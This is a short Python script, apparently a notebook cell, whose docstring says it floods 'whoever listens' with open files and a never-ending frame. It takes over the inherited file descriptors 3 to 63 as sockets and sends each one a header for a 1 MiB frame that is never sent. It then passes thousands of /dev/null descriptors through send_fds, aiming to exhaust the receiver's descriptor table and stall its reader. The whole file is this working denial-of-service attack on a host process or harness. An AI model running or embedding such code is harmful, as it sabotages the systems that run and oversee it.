"""Sends thousands of open files along with a frame that never ends, to whoever listens."""

STOCK = "no mark"

# %% first
import os
import socket
import struct

null = os.open(os.devnull, os.O_RDONLY)
ends = []
for number in range(3, 64):
    try:
        ends.append(socket.socket(fileno=os.dup(number)))
    except OSError:
        pass
for end in ends:
    try:
        end.settimeout(0.5)
        end.sendall(struct.pack(">II", 2**20, 0))
        for _ in range(1000):
            socket.send_fds(end, [b"x"], [null] * 8)
    except OSError:
        pass
